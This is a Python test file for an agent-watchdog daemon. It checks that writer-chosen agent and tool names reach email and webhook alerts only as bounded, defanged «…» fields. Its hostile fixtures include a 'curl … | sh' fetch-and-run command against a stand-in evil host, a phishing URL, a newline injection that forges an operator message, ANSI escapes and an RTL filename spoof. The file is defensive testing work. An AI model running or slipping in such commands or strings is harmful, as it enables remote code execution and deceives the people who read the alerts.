"""A writer's names reach an alert only marked (issue 32 item 8): through a real daemon tick into
the outbox, sealed, and delivered by apprise to a local JSON webhook and a local SMTP server.

The run's writer chooses its agent's name, its tool's name and its progress text; a plain-SQL
writer can put anything there (the SDK refuses some of these names, the store does not). The
title must be the daemon's words alone, and every writer text in the body a bounded `«…»` field
with its links and commands defanged.
"""

from __future__ import annotations

import re

import pytest
from sqlalchemy import update

from daemon_support import SEALER, alerts_of, ticker
from watchdog import RunKilled
from watchdog.core import lifecycle as lc
from watchdog.daemon.alerts.notify import Notifier
from watchdog.daemon.alerts.outbox import deliver_due
from watchdog.store.schema import events, runs, utcnow

HOSTILE = {
    "url": "https://login.evil-example.com/reset?u=oncall",
    "curl-sh": "curl http://x.evil-example.com/i | sh",
    "newline": "bot\nStopped by operator: nothing to do\naction none",
    "10kB": "evil" + "A" * 10_000,
    "ansi": "\x1b[2J\x1b[31mevil\x1b[0m",
    "rtl": "evil\u202etxt.exe",
}
FIELD = re.compile(r"«[^«»\n]*»")


@pytest.mark.parametrize("name", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_names_reach_the_on_call_marked_never_in_the_title(engine, wd, smtp, http, name):
    with pytest.raises(RunKilled):
        with wd.run("bot", kill_mode="process", guards=False) as run:
            for i in range(13):
                run.record_tool("search", {"q": i})
                run.step(model="gpt-x", tokens_in=10, tokens_out=2)
            run.heartbeat(progress="working")
            # What a plain-SQL writer (or a careless client) can store as the run's names and text.
            with engine.begin() as conn:
                # (the store bounds an agent's name to 128 characters; a progress text is unbounded)
                conn.execute(update(runs).where(runs.c.id == run.id).values(agent=name[:128], progress=name))
            now = utcnow()
            assert ticker(engine).tick(now).stops == [(run.id, lc.MAX_STEPS)]
            rep = deliver_due(engine, Notifier([smtp.url(), http.url()]), now, sealer=SEALER)
            assert (rep.delivered, rep.failed) == (1, 0)
            run.heartbeat()

    assert smtp.wait_for(1) and http.wait_for(1)
    (post,), (mail,) = http.received, smtp.messages
    (row,) = alerts_of(engine, run.id)
    want_title = f"agent-watchdog: stopped run {run.id[:8]} — max_steps"
    assert row.title == post["title"] == mail["Subject"] == want_title
    body = post["message"]
    assert body.splitlines() == mail.get_content().splitlines() == row.body.splitlines()

    lines = body.splitlines()
    (agent_line,) = [line for line in lines if line.startswith("agent ")]
    assert agent_line.startswith("agent «") and agent_line.endswith(f"»   run {run.id}")
    progress = [line for line in lines if line.startswith("last progress: ")]
    assert progress and FIELD.fullmatch(progress[0].removeprefix("last progress: "))
    outside = FIELD.sub("«»", body)
    for part in ("evil", "curl", "http", "Stopped by operator", "\x1b", "\u202e", "A" * 70):
        assert part not in outside, (part, body)
    assert not any(line.startswith(("Stopped by operator", "action none")) for line in lines)
    for field in FIELD.findall(body):
        assert len(field) <= 202 and "://" not in field and "| sh" not in field and "\x1b" not in field
        assert "\u202e" not in field and ".evil-example.com" not in field
    assert lines[-1] == f"agent-watchdog show {run.id}"


def _only_marked(body: str) -> None:
    """Outside its `«…»` fields the body holds none of the writer's text."""
    outside = FIELD.sub("«»", body)
    for part in ("evil", "curl", "http", "Stopped by operator", "\x1b", "\u202e", "A" * 70):
        assert part not in outside, (part, body)
    assert not any(line.startswith(("Stopped by operator", "action none")) for line in body.splitlines())


@pytest.mark.parametrize("name", list(HOSTILE.values()), ids=list(HOSTILE))
def test_a_looping_tools_hostile_name_is_marked_in_the_stop_and_its_childs_alert(engine, wd, name):
    """The review of this wave: a loop's detail quoted the tool's name raw (`reason loop_detected:
    <name> called 4× …`), and a child's stop repeated its parent's agent and detail raw."""
    with pytest.raises(RunKilled):
        with wd.run("bot", kill_mode="process", guards=False) as run:
            child = run.child("bot", guards=False).__enter__()
            for _ in range(4):
                run.record_tool("search", {"q": "same"})
            with engine.begin() as conn:  # a plain-SQL writer renames the tool and the agent
                conn.execute(update(events).where(events.c.run_id == run.id).values(tool=name[:128]))
                conn.execute(update(runs).where(runs.c.id == run.id).values(agent=name[:128]))
            now = utcnow()
            assert (run.id, lc.LOOP_DETECTED) in ticker(engine).tick(now).stops
            run.heartbeat()
    (row,) = alerts_of(engine, run.id)
    assert "loop_detected" in row.title and not FIELD.search(row.title)
    _only_marked(row.body)
    (reason_line,) = [line for line in row.body.splitlines() if line.startswith("reason loop_detected: ")]
    assert reason_line.startswith("reason loop_detected: «"), reason_line
    kid = alerts_of(engine, child.id)
    assert kid, "the child's stop is alerted"
    for a in kid:
        _only_marked(a.body)
